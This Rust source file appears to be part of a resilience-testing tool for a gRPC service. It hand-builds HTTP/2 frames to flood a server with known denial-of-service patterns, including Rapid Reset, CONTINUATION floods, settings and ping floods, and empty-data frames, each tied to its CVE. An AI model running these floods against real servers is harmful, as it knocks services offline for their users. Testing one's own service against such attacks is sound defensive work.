//! A member with a good certificate that sends what no client sends (RFC 9113, section 10.5).

use std::sync::atomic::Ordering;

use symbolon_core::crypto;
use tokio::io::{self, AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};

use super::{Tally, Target, one_more};

/// Connection preface of HTTP/2 (RFC 9113, section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Frames that are written together.
const TOGETHER: u32 = 64;

/// What is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Frames {
    /// Random bytes inside TLS.
    Random,
    /// Headers of a megabyte.
    HugeHeaders,
    /// Headers without an end, in frames of a few bytes (CVE-2024-27316).
    Continuation,
    /// Calls that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Calls whose answers may not be sent: a window of nothing.
    ZeroWindow,
    /// Settings that change all the time, each to be acknowledged (CVE-2019-9515).
    Settings,
    /// Pings, each to be answered, by one who does not read (CVE-2019-9512).
    Pings,
    /// Frames of data without data (CVE-2019-9518).
    EmptyData,
}

impl Frames {
    /// Every kind.
    pub const ALL: [Self; 8] = [
        Self::Random,
        Self::HugeHeaders,
        Self::Continuation,
        Self::RapidReset,
        Self::ZeroWindow,
        Self::Settings,
        Self::Pings,
        Self::EmptyData,
    ];

    /// What it is called in a table and on the command line.
    #[must_use]
    pub fn name(self) -> String {
        let value = clap::ValueEnum::to_possible_value(&self);
        value.map_or_else(String::new, |value| value.get_name().to_owned())
    }

    pub(super) async fn attack(self, target: &Target, tally: &Tally) -> io::Result<()> {
        let stream = target.as_member().await?;
        one_more(&tally.opened);
        let (reading, writing) = io::split(stream);
        tokio::select! {
            sent = self.send(writing, tally) => sent,
            read = self.read(reading) => read,
        }
    }

    async fn send(self, mut writing: impl AsyncWrite + Unpin, tally: &Tally) -> io::Result<()> {
        writing.write_all(&self.opening()).await?;
        let mut number = 0_u32;
        while let Some(bytes) = self.next(number) {
            writing.write_all(&bytes).await?;
            tally.sent.fetch_add(bytes.len() as u64, Ordering::Relaxed);
            number = number.wrapping_add(TOGETHER);
        }
        writing.flush().await?;
        std::future::pending().await
    }

    async fn read(self, mut reading: impl AsyncRead + Unpin) -> io::Result<()> {
        if self == Self::Pings {
            return std::future::pending().await;
        }
        let mut heard = vec![0; 16 * 1024];
        while reading.read(&mut heard).await? > 0 {}
        Ok(())
    }

    fn opening(self) -> Vec<u8> {
        let settings: &[u8] = match self {
            Self::Random => return Vec::new(),
            // SETTINGS_INITIAL_WINDOW_SIZE
            Self::ZeroWindow => &[0, 4, 0, 0, 0, 0],
            _ => &[],
        };
        [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()
    }

    /// What is sent next; nothing more for those who then wait.
    fn next(self, number: u32) -> Option<Vec<u8>> {
        let mut bytes = Vec::new();
        for at in (0..TOGETHER).map(|place| number.wrapping_add(place)) {
            let stream = at.wrapping_mul(2) | 1;
            match self {
                Self::Random => bytes.extend(crypto::random::<256>().ok()?),
                Self::HugeHeaders => {
                    let kind = if at == 0 { HEADERS } else { CONTINUATION };
                    let block = if at == 0 { call() } else { huge_header() };
                    bytes.extend(frame(kind, 0, 1, &block));
                }
                Self::Continuation => {
                    let (kind, block) = match at {
                        0 => (HEADERS, call()),
                        _ => (CONTINUATION, Vec::new()),
                    };
                    bytes.extend(frame(kind, 0, 1, &block));
                }
                Self::RapidReset => {
                    bytes.extend(frame(HEADERS, END_HEADERS, stream, &call()));
                    bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                }
                Self::ZeroWindow if number > 0 => return None,
                Self::ZeroWindow => {
                    let whole = frame(HEADERS, END_HEADERS, stream, &call());
                    bytes.extend(whole);
                    // An empty message of gRPC: what has the hub of us?
                    bytes.extend(frame(DATA, END_STREAM, stream, &[0; 5]));
                }
                // SETTINGS_HEADER_TABLE_SIZE
                Self::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, at as u8])),
                Self::Pings => bytes.extend(frame(PING, 0, 0, &[7; 8])),
                Self::EmptyData => {
                    if at == 0 {
                        bytes.extend(frame(HEADERS, END_HEADERS, 1, &call()));
                    }
                    bytes.extend(frame(DATA, 0, 1, &[]));
                }
            }
        }
        Some(bytes)
    }
}

/// A frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut bytes = length.get(1..).unwrap_or_default().to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The block of headers of a call (RFC 7541, sections 6.1 and 6.2.2).
fn call() -> Vec<u8> {
    // :method POST and :scheme https of the static table.
    let mut block = vec![0x83, 0x87];
    let mut literal = |index: u8, name: &str, value: &str| {
        block.push(index);
        if index == 0 {
            block.push(name.len() as u8);
            block.extend(name.as_bytes());
        }
        block.push(value.len() as u8);
        block.extend(value.as_bytes());
    };
    literal(4, ":path", "/symbolon.matching.v1.Matching/Holdings");
    literal(1, ":authority", "localhost");
    literal(0, "content-type", "application/grpc");
    literal(0, "te", "trailers");
    block
}

/// A header of 16 KB, one of a frame.
fn huge_header() -> Vec<u8> {
    const BYTES: usize = 16_000;
    // Name "x", and a length with a prefix of seven bits (RFC 7541, section 5.1).
    let rest = BYTES - 127;
    let mut block = vec![
        0,
        1,
        b'x',
        127,
        (rest % 128) as u8 | 128,
        (rest / 128) as u8,
    ];
    block.extend(vec![b'a'; BYTES]);
    block
}

/// The preface, and a frame of which no more than its head is sent soon.
pub(super) fn begun_frame() -> Vec<u8> {
    let settings = frame(SETTINGS, 0, 0, &[]);
    let headers = frame(HEADERS, END_HEADERS, 1, &[0; 1024]);
    [PREFACE, &settings, &headers].concat()
}
